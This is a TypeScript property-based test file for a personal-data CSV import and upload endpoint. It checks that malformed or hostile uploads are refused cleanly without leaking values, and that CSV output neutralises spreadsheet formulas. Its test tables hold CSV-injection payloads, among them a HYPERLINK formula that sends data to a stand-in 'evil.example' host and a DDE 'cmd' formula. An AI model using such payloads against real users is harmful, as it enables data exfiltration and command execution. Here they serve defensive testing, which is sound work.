/**
 * Hostile affected-person uploads, generated: random bytes, stray and unclosed quotes, byte order marks (UTF-8,
 * UTF-16, UTF-32), whole lists in Shift_JIS (CP932, accepted), Shift_JIS bytes pasted into a UTF-8 list and byte
 * sequences valid in neither encoding (refused), UTF-16 without a mark, NUL, truncation, LF / CRLF / CR / mixed line
 * endings, formula-looking cells, odd chunking. Fed to the import directly and through the HTTP upload (in-process app over a
 * fake Temporal client), the answer is always success or the named refusal (422 `persons_rejected`, with a known
 * reason and rule), never an unexpected error or a 500, and no cell's text reaches an error, an answer or a log.
 *
 * Also the output half of CSV injection: `lib/csv-safe.ts`, which every CSV writer uses, table-driven and round-trip.
 *
 * Deterministic (fixed seeds) and quick (a few seconds).
 */
import { isUtf8 } from 'node:buffer';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable, Writable } from 'node:stream';
import { parse as parseCsvSync } from 'csv-parse/sync';
import type { Express } from 'express';
import fc from 'fast-check';
import iconv from 'iconv-lite';
import { pino } from 'pino';
import request from 'supertest';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { buildApp } from '../../api/app.js';
import { neutraliseSpreadsheetFormula, toCsvCell, toCsvLine } from '../../lib/csv-safe.js';
import { createFileBlobStore, type BlobStore } from '../../storage/blob-store.js';
import { parseKeyring } from '../../storage/crypto.js';
import {
  PERSONS_FILE_RULES,
  PERSONS_IMPORT_ERROR_CODES,
  PERSON_ROW_RULES,
  PersonsImportError,
  importPersonsCsv,
  readPersons,
  type PersonsDeps,
} from '../../storage/persons.js';
import { FakeTemporal, KEYS, bearer, fakeDeps } from '../api/fake-temporal.js';

const SEED = 20_240_611;
const RUNS = 150;

// ---- what counts as personal data here ------------------------------------------------------------------------------

/**
 * Every generated value carries one of these markers, and the known partial leaks (csv-parse's INVALID_OPENING_QUOTE
 * keeps the field up to the quote: `小林`, `=HYPERLINK(`) are listed too. The product's own messages contain none.
 */
const NEEDLES = ['秘', 'zzpii', '小林', 'HYPERLINK', 'evil.example', 'Kinshi'];
const leaks = (haystack: string): string[] => NEEDLES.filter((n) => haystack.includes(n));

// The named outcomes an upload may have: storage's own lists, so a new rule there is one here too.
const ROW_RULES = new Set<string>(PERSON_ROW_RULES);
const IMPORT_CODES = new Set<string>(PERSONS_IMPORT_ERROR_CODES);
const FILE_RULES = new Set<string>(PERSONS_FILE_RULES);

// ---- generators ---------------------------------------------------------------------------------------------------

const jaMark = fc.nat({ max: 9999 }).map((n) => `秘${n}`);
const asciiMark = fc.nat({ max: 99_999 }).map((n) => `zzpii${n}`);
const formulaStart = fc.constantFrom('=', '+', '-', '@', '\t', '＝', '－');

/** Well-formed cells weigh more than broken ones, so that lists are read to the end as often as they are refused. */
const good = <T>(arbitrary: fc.Arbitrary<T>) => ({ weight: 6, arbitrary });
const nameCell = fc.oneof(
  good(jaMark.map((m) => `${m} 花子`)),
  good(asciiMark.map((m) => `${m} Kinshi`)),
  good(fc.tuple(formulaStart, jaMark).map(([p, m]) => `${p}${m}`)),
  good(jaMark.map((m) => `"=HYPERLINK(""http://evil.example/?${m}"",""x"")"`)), // quoted properly
  good(jaMark.map((m) => `"${m}, 太郎"`)),
  good(jaMark.map((m) => ` ${m}\u3000`)),
  jaMark.map((m) => `=HYPERLINK("http://evil.example/?${m}","x")`), // unquoted cell with quotes
  jaMark.map((m) => `小林"${m}子"`), // stray quote
  jaMark.map((m) => `"${m}`), // never closed
  jaMark.map((m) => `"${m}" 次郎`), // text after the closing quote
  fc.constant(''),
);
const emailCell = fc.oneof(
  good(asciiMark.map((m) => `${m}@example.com`)),
  good(asciiMark.map((m) => `"${m}@example.com"`)),
  fc.tuple(formulaStart, asciiMark).map(([p, m]) => `${p}${m}@example.com`),
  asciiMark.map((m) => `${m}-not-an-email`),
  asciiMark.map((m) => `${m}"@example.com`),
  fc.constant(''),
);
const addressCell = fc.oneof(
  good(jaMark.map((m) => `東京都${m}町1-2-3`)),
  good(jaMark.map((m) => `"東京都${m}町\r\n2F, 301"`)),
  fc.tuple(formulaStart, jaMark).map(([p, m]) => `${p}${m}`),
  good(fc.constant('')),
);
const languageCell = fc.constantFrom('', 'ja', 'en', 'EN', ' ja ', 'fr');
const header = fc.constantFrom(
  ['name', 'email', 'postal_address', 'language'],
  ['氏名', 'メールアドレス', '住所', '言語'],
  ['"name"', '"email"', '"postal_address"', '"language"'],
  ['Name', 'E-mail', 'Postal Address', 'Lang'],
);
const lineEnding = fc.constantFrom('\n', '\r\n', '\r');

const csvOf = (names: fc.Arbitrary<string>) =>
  fc
    .tuple(
      header,
      fc.array(
        fc.tuple(names, emailCell, addressCell, languageCell, fc.constantFrom([], [''], ['', ''], ['秘extra']), lineEnding),
        { maxLength: 8 },
      ),
      lineEnding,
    )
    .map(([h, rows, headerEnd]) => h.join(',') + headerEnd + rows.map(([n, e, a, l, extra, end]) => [n, e, a, l, ...extra].join(',') + end).join(''));
const csvText = csvOf(nameCell);
/**
 * Names as Japanese Excel users have them besides: the NEC and IBM extensions, and half-width katakana, whose
 * Shift_JIS bytes are sometimes valid UTF-8 too (ﾅｶ ﾏｷ is C5 B6 20 CF B7).
 */
const excelName = fc.oneof(
  { weight: 3, arbitrary: nameCell },
  fc.tuple(fc.constantFrom('ﾅｶ ﾏｷ', 'ﾔﾏﾀﾞ ﾊﾅｺ', 'ｱｲ', '髙﨑 ①', '㈱ﾃｽﾄ №３', 'ⅰ～ⅲ ＼', '表 ソ能'), jaMark).map(([n, m]) => `${n}${m.length % 2 ? '' : ` ${m}`}`),
);

/** Bytes that may follow: a UTF-8 text, re-encoded, with a mark, and possibly damaged. */
const SJIS = [Buffer.from([0x8e, 0x52, 0x93, 0x63]), Buffer.from([0x83, 0x5c]), Buffer.from([0x82, 0xa0, 0x82, 0xa2]), Buffer.from([0x95, 0x5c, 0x22])];
/**
 * Valid in neither UTF-8 nor Shift_JIS wherever a character may start: a byte neither encoding has (0x80, 0xA0, 0xFD,
 * 0xFF), an unassigned row (0x85, 0xEB), a lead byte whose trail byte is missing or below 0x40.
 */
const NEITHER = [[0x80], [0xa0], [0xfd], [0xff], [0x85, 0x40], [0xeb, 0x9f], [0x82], [0x88, 0x20], [0x93, 0x8c, 0x82]].map((b) => Buffer.from(b));
const cp932 = (text: string): Buffer => iconv.encode(text, 'cp932');
const BOMS = {
  none: Buffer.alloc(0),
  utf8: Buffer.from([0xef, 0xbb, 0xbf]),
  utf16le: Buffer.from([0xff, 0xfe]),
  utf16be: Buffer.from([0xfe, 0xff]),
  utf32le: Buffer.from([0xff, 0xfe, 0x00, 0x00]),
};
const damage = fc.oneof(
  { weight: 12, arbitrary: fc.constant({ kind: 'none' as const }) },
  fc.record({ kind: fc.constant('sjis' as const), at: fc.nat(), bytes: fc.constantFrom(...SJIS) }),
  fc.record({ kind: fc.constant('random' as const), at: fc.nat(), bytes: fc.uint8Array({ minLength: 1, maxLength: 12 }) }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('utf16' as const) }),
  // A whole list as Japanese Excel saves it, and the same with bytes that are neither encoding put in somewhere.
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('cp932' as const) }) },
  fc.record({ kind: fc.constant('cp932-broken' as const), at: fc.nat(), bytes: fc.constantFrom(...NEITHER) }),
);
const upload = fc
  .record({
    text: csvText,
    bom: fc.oneof(good(fc.constantFrom('none' as const, 'utf8' as const)), fc.constantFrom('utf16le' as const, 'utf16be' as const, 'utf32le' as const)),
    doubleBom: fc.boolean(),
    damage,
    piece: fc.oneof(fc.integer({ min: 1, max: 16 }), fc.constant(65_536)),
  })
  .map(({ text, bom, doubleBom, damage: d, piece }) => {
    let body = d.kind === 'cp932' || d.kind === 'cp932-broken' ? cp932(text) : Buffer.from(text, d.kind === 'utf16' ? 'utf16le' : 'utf8');
    if (d.kind === 'sjis' || d.kind === 'random' || d.kind === 'cp932-broken') {
      const at = d.at % (body.length + 1);
      body = Buffer.concat([body.subarray(0, at), Buffer.from(d.bytes), body.subarray(at)]);
    } else if (d.kind === 'truncate') {
      body = body.subarray(0, d.at % (body.length + 1));
    }
    const mark = doubleBom && bom === 'utf8' ? Buffer.concat([BOMS.utf8, BOMS.utf8]) : BOMS[bom];
    return { body: Buffer.concat([mark, body]), piece, text };
  });

const chunked = (buf: Buffer, piece: number): Readable =>
  Readable.from(Array.from({ length: Math.ceil(buf.length / piece) }, (_, i) => buf.subarray(i * piece, (i + 1) * piece)));

/** Describes an upload for a failure report without printing it raw. */
const describeUpload = (u: { body: Buffer; piece: number }) => `${u.body.length} bytes in pieces of ${u.piece}: ${JSON.stringify(u.body.toString('latin1'))}`;

// ---- capture ------------------------------------------------------------------------------------------------------

const consoleOut: string[] = [];
beforeEach(() => {
  for (const method of ['log', 'info', 'warn', 'error', 'debug', 'trace'] as const) {
    vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
      consoleOut.push(args.map((a) => (a instanceof Error ? `${a.message} ${JSON.stringify(a)}` : typeof a === 'string' ? a : JSON.stringify(a))).join(' '));
    });
  }
});
afterEach(() => {
  vi.restoreAllMocks();
});

// ---- the import, called directly ------------------------------------------------------------------------------------

describe('persons import under hostile uploads (storage)', () => {
  let dir: string;
  let store: BlobStore;
  let deps: PersonsDeps;
  let seq = 0;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'persons-prop-'));
    store = createFileBlobStore(dir);
    deps = { store, keyring: parseKeyring(`k1:${randomBytes(32).toString('base64')}`) };
  });
  afterAll(async () => rm(dir, { recursive: true, force: true }));

  it('answers a result or the named refusal, stores nothing when refusing, and echoes no value', async () => {
    const seen = { accepted: 0, shiftJis: 0, refused: new Map<string, number>() };
    await fc.assert(
      fc.asyncProperty(upload, async (u) => {
        const uploadId = `p${++seq}`;
        const key = `cases/prop/persons/${uploadId}.ndjson.enc`;
        let outcome: unknown;
        try {
          outcome = await importPersonsCsv(chunked(u.body, u.piece), deps, { caseId: 'prop', uploadId, maxErrors: 20 });
        } catch (err) {
          if (!(err instanceof PersonsImportError)) throw new Error(`unexpected ${String((err as Error)?.name)} for ${describeUpload(u)}`);
          expect(IMPORT_CODES).toContain(err.code);
          if (err.code === 'not_csv' || err.code === 'line_too_long') expect(FILE_RULES).toContain(err.details.rule);
          if (err.details.row !== undefined) expect(Number.isInteger(err.details.row) && err.details.row >= 1).toBe(true);
          expect(err.cause).toBeUndefined();
          expect(leaks(`${err.message} ${JSON.stringify(err)}`)).toEqual([]);
          expect(await store.exists(key)).toBe(false);
          const label = `${err.code}/${err.details.rule ?? '-'}`;
          seen.refused.set(label, (seen.refused.get(label) ?? 0) + 1);
          return;
        }
        const { ref, errors, errorCount, encoding } = outcome as Awaited<ReturnType<typeof importPersonsCsv>>;
        for (const e of errors) {
          expect(ROW_RULES).toContain(e.reason);
          expect(Object.keys(e).every((k) => k === 'row' || k === 'column' || k === 'reason')).toBe(true);
        }
        expect(errorCount).toBeGreaterThanOrEqual(errors.length);
        expect(leaks(JSON.stringify({ ref, errors }))).toEqual([]);
        expect(ref.total).toBe(ref.accepted + ref.duplicates + ref.rejected);
        // The sealed list reads back whole (count and checksum verified at the end).
        let n = 0;
        for await (const _ of readPersons(deps, ref)) n += 1;
        expect(n).toBe(ref.accepted);
        seen.accepted += 1;
        if (encoding === 'shift_jis') seen.shiftJis += 1;
      }),
      { seed: SEED, numRuns: RUNS },
    );
    expect(consoleOut.filter((l) => leaks(l).length > 0)).toEqual([]);
    // The generator reaches both sides and the interesting refusals (fixed seed, so this is stable).
    expect(seen.accepted).toBeGreaterThan(10);
    expect(seen.shiftJis).toBeGreaterThan(0);
    for (const label of ['not_csv/invalid_quote', 'not_csv/encoding']) expect(seen.refused.get(label) ?? 0).toBeGreaterThan(0);
  });

  it('reads well-formed lists whatever their names, quoting, BOM, line endings and chunking', async () => {
    // RFC 4180 quoting without neutralisation: what a spreadsheet writes.
    const quote = (s: string) => (/[",\r\n]/.test(s) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s);
    const piece = fc.oneof(
      fc.constantFrom('"', ',', '\r', '\n', '\r\n', '=', '-', '+', '@', '\t', ' ', '\u3000', '\uFEFF', '秘', '小林', 'ｶﾅ', '\u0301'),
      fc.string({ unit: 'grapheme', maxLength: 4 }),
    );
    const name = fc.array(piece, { maxLength: 6 }).map((a) => a.join(''));
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(name, lineEnding), { maxLength: 10 }),
        fc.boolean(),
        fc.integer({ min: 1, max: 32 }),
        async (rows, bom, size) => {
          const text =
            (bom ? '\uFEFF' : '') + 'name,email\r\n' + rows.map(([n, end], i) => `${quote(n)},zzpii${i}@example.com${end}`).join('');
          const { ref, errors } = await importPersonsCsv(chunked(Buffer.from(text, 'utf8'), size), deps, { caseId: 'prop', uploadId: `w${++seq}` });
          const expected = rows.map(([n]) => n.normalize('NFC').trim());
          expect(errors).toEqual(expected.flatMap((n, i) => (n === '' ? [{ row: i + 2, column: 'name', reason: 'required' }] : [])));
          const names: string[] = [];
          for await (const { person } of readPersons(deps, ref)) names.push(person.name);
          expect(names).toEqual(expected.filter((n) => n !== ''));
        },
      ),
      { seed: SEED, numRuns: RUNS },
    );
  });

  /** The outcome with the place of storage left out: what a list read twice, once per encoding, must agree on. */
  async function outcomeOf(body: Buffer, piece: number) {
    try {
      const { ref, errors, errorCount, encoding } = await importPersonsCsv(chunked(body, piece), deps, { caseId: 'twin', uploadId: `t${++seq}`, maxErrors: 20 });
      const persons: unknown[] = [];
      for await (const { person } of readPersons(deps, ref)) persons.push(person);
      const { key: _key, uploadId: _uploadId, ...counts } = ref;
      return { encoding, result: { counts, errors, errorCount, persons } };
    } catch (err) {
      if (!(err instanceof PersonsImportError)) throw err;
      return { encoding: undefined, result: { code: err.code, details: err.details } };
    }
  }

  it('reads a list saved as Shift_JIS (CP932) exactly as its UTF-8 twin: the same persons, ids, errors or refusal', async () => {
    const seen = { accepted: 0, refused: 0 };
    await fc.assert(
      fc.asyncProperty(csvOf(excelName), fc.oneof(fc.integer({ min: 1, max: 16 }), fc.constant(65_536)), async (text, piece) => {
        const sjis = cp932(text);
        // A list with Japanese text in it (one with ASCII only is the same bytes in both encodings).
        fc.pre(!isUtf8(sjis));
        const [fromSjis, fromUtf8] = await Promise.all([outcomeOf(sjis, piece), outcomeOf(Buffer.from(text, 'utf8'), piece)]);
        expect(fromSjis.result).toEqual(fromUtf8.result);
        if (fromSjis.encoding === undefined) {
          seen.refused += 1;
        } else {
          expect(fromSjis.encoding).toBe('shift_jis');
          seen.accepted += 1;
        }
      }),
      { seed: SEED, numRuns: RUNS },
    );
    expect(seen.accepted).toBeGreaterThan(20);
    expect(seen.refused).toBeGreaterThan(0);
  });

  it('refuses a Shift_JIS list with bytes valid in neither encoding, naming the row and column (never the value)', async () => {
    const goodRow = fc.tuple(
      fc.oneof(
        jaMark.map((m) => `${m} 花子`),
        asciiMark.map((m) => `${m} Kinshi`),
        jaMark.map((m) => `"${m}, 太郎"`),
        jaMark.map((m) => `＝${m}`),
      ),
      fc.oneof(asciiMark.map((m) => `${m}@example.com`), asciiMark.map((m) => `"${m}@example.com"`), fc.constant('')),
      fc.oneof(jaMark.map((m) => `東京都${m}町1-2-3`), jaMark.map((m) => `"東京都${m}町\r\n2F, 301"`)),
      fc.constantFrom('', 'ja', 'en'),
    );
    await fc.assert(
      fc.asyncProperty(
        header,
        fc.array(goodRow, { minLength: 1, maxLength: 6 }),
        fc.nat(),
        fc.nat({ max: 3 }),
        fc.constantFrom(...NEITHER),
        fc.constantFrom('\n', '\r\n'),
        fc.integer({ min: 1, max: 16 }),
        async (head, rows, at, column, bad, end, piece) => {
          const records: string[][] = [[...head], ...rows.map((r) => [...r])];
          const row = at % records.length;
          // Inside the cell: before the closing quote of a quoted one.
          const cellBytes = (cell: string, damaged: boolean): Buffer => {
            if (!damaged) return cp932(cell);
            const quoted = cell.startsWith('"');
            const inner = cp932(quoted ? cell.slice(0, -1) : cell);
            return Buffer.concat([inner, bad, Buffer.from(quoted ? '"' : '')]);
          };
          const body = Buffer.concat(
            records.flatMap((cells, r) => [
              ...cells.flatMap((cell, c) => [...(c > 0 ? [Buffer.from(',')] : []), cellBytes(cell, r === row && c === column)]),
              Buffer.from(end),
            ]),
          );
          const uploadId = `x${++seq}`;
          const err = await importPersonsCsv(chunked(body, piece), deps, { caseId: 'prop', uploadId }).catch((e: unknown) => e);
          if (!(err instanceof PersonsImportError)) throw new Error(`not refused: ${describeUpload({ body, piece })}`);
          const want = row === 0 ? { rule: 'encoding', row: 1 } : { rule: 'encoding', row: row + 1, column: ['name', 'email', 'postal_address', 'language'][column] };
          expect({ code: err.code, ...err.details }).toEqual({ code: 'not_csv', ...want });
          expect(err.message).toMatch(/is neither UTF-8 nor Shift_JIS \(CP932\) text/);
          expect(leaks(`${err.message} ${JSON.stringify(err)}`)).toEqual([]);
          expect(await store.exists(`cases/prop/persons/${uploadId}.ndjson.enc`)).toBe(false);
        },
      ),
      { seed: SEED, numRuns: RUNS },
    );
  });
});

// ---- the same through the HTTP upload -------------------------------------------------------------------------------

describe('persons upload under hostile uploads (HTTP, fake Temporal)', () => {
  let fake: FakeTemporal;
  let app: Express;
  const logLines: string[] = [];

  beforeAll(async () => {
    fake = new FakeTemporal();
    fake.addCase('C123', 'ins-001');
    fake.onCommand = () => Promise.resolve({ view: { caseId: 'C123', status: 'triage' } });
    const sink = new Writable({
      write(chunk: Buffer, _enc, done) {
        logLines.push(chunk.toString('utf8'));
        done();
      },
    });
    app = buildApp(await fakeDeps(fake, { logger: pino({ level: 'trace' }, sink), env: { RATE_LIMIT_PER_MINUTE: '100000' } }));
  });

  it('answers 200 or 422 persons_rejected with a named reason and rule, and logs no value', async () => {
    const statuses = new Map<string, number>();
    await fc.assert(
      fc.asyncProperty(upload, async (u) => {
        const res = await request(app)
          .put('/v1/cases/C123/affected-persons')
          .set(bearer(KEYS.insured1))
          .set('Content-Type', 'text/csv')
          .send(u.body);
        const body = res.text;
        if (res.status !== 200 && res.status !== 422) throw new Error(`HTTP ${res.status} ${body} for ${describeUpload(u)}`);
        expect(leaks(body)).toEqual([]);
        if (res.status === 422) {
          expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
          expect(res.body.code).toBe('persons_rejected');
          if (res.body.reason !== undefined) {
            // The whole upload refused: the reason, and for a file the rule is named.
            expect(IMPORT_CODES).toContain(res.body.reason);
            if (res.body.reason === 'not_csv' || res.body.reason === 'line_too_long') expect(FILE_RULES).toContain(res.body.rule);
          } else {
            // Read, but no row accepted: the row problems, as a 200 would list them.
            expect(res.body.ref.accepted).toBe(0);
            for (const e of res.body.rows as { reason: string }[]) expect(ROW_RULES).toContain(e.reason);
          }
        }
        const label = `${res.status} ${res.body.reason ?? ''}/${res.body.rule ?? ''}`;
        statuses.set(label, (statuses.get(label) ?? 0) + 1);
      }),
      { seed: SEED + 1, numRuns: RUNS },
    );
    expect(logLines.length).toBeGreaterThan(0);
    expect(logLines.filter((l) => leaks(l).length > 0)).toEqual([]);
    expect(logLines.filter((l) => l.includes('"level":50'))).toEqual([]); // no error-level line (a 500 logs one)
    expect(consoleOut.filter((l) => leaks(l).length > 0)).toEqual([]);
    expect(statuses.get('200 /') ?? 0).toBeGreaterThan(0);
    expect(statuses.get('422 not_csv/invalid_quote') ?? 0).toBeGreaterThan(0);
  });

  it('the probe’s own inputs: a stray quote in a name and an unquoted =HYPERLINK( are 422 with row and rule', async () => {
    for (const csv of ['name,email\n小林"秘密子",a@example.com\n', 'name,email\n=HYPERLINK("http://evil.example/?秘","x"),a@example.com\n']) {
      const res = await request(app).put('/v1/cases/C123/affected-persons').set(bearer(KEYS.insured1)).set('Content-Type', 'text/csv').send(csv);
      expect(res.status).toBe(422);
      expect(res.body).toMatchObject({ code: 'persons_rejected', reason: 'not_csv', rule: 'invalid_quote', row: 2, column: 'name' });
      expect(leaks(res.text)).toEqual([]);
    }
    expect(logLines.filter((l) => leaks(l).length > 0)).toEqual([]);
  });
});

// ---- CSV output: lib/csv-safe.ts ------------------------------------------------------------------------------------

describe('neutraliseSpreadsheetFormula', () => {
  const table: [string, string][] = [
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+81 3 1234 5678', "'+81 3 1234 5678"],
    ['-2+3', "'-2+3"],
    ['-Hanako-', "'-Hanako-"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\u0000=1', "'\u0000=1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    // Left alone: not a formula start, or already neutralised.
    ['', ''],
    ['山田 太郎', '山田 太郎'],
    ['Taro=Yamada', 'Taro=Yamada'],
    ['a-b', 'a-b'],
    [' =1+1', ' =1+1'],
    ["'=1+1", "'=1+1"],
    ['taro@example.jp', 'taro@example.jp'],
    ['\n=1', '\n=1'],
  ];
  for (const [input, want] of table) {
    it(`${JSON.stringify(input)} → ${JSON.stringify(want)}`, () => {
      expect(neutraliseSpreadsheetFormula(input)).toBe(want);
    });
  }

  it('is idempotent and only ever adds one leading quote', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 20 }), (s) => {
        const once = neutraliseSpreadsheetFormula(s);
        expect(neutraliseSpreadsheetFormula(once)).toBe(once);
        expect(once === s || once === `'${s}`).toBe(true);
      }),
      { seed: SEED, numRuns: 500 },
    );
  });
});

describe('toCsvCell / toCsvLine', () => {
  const table: [Parameters<typeof toCsvCell>[0], string][] = [
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' padded ', '" padded "'],
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
    ['-1,5', '"\'-1,5"'],
    [-1500, '-1500'],
    [0, '0'],
    [true, 'true'],
    [null, ''],
    [undefined, ''],
  ];
  for (const [input, want] of table) {
    it(`${JSON.stringify(input) ?? 'undefined'} → ${want}`, () => {
      expect(toCsvCell(input)).toBe(want);
    });
  }

  it('refuses a non-finite number', () => {
    expect(() => toCsvCell(Number.NaN)).toThrow(RangeError);
    expect(() => toCsvCell(Infinity)).toThrow(RangeError);
  });

  it('round-trips through a CSV parser: every text comes back neutralised, nothing else changes', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', '秘', ',', '"', '\r', '\n', ' ', '=', '+', '-', '@', '\t', "'", '＝'), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
        const parsed = parseCsvSync(toCsvLine(cells) + toCsvLine(cells), { record_delimiter: '\r\n' });
        const want = cells.map(neutraliseSpreadsheetFormula);
        // A record of one empty cell is an empty line, which parsers skip or read as nothing.
        if (cells.length === 1 && cells[0] === '') return;
        expect(parsed).toEqual([want, want]);
        for (const row of parsed) for (const c of row) expect(c === '' || !/^[=+\-@\t\r＝]/.test(c)).toBe(true);
      }),
      { seed: SEED, numRuns: 300 },
    );
  });
});
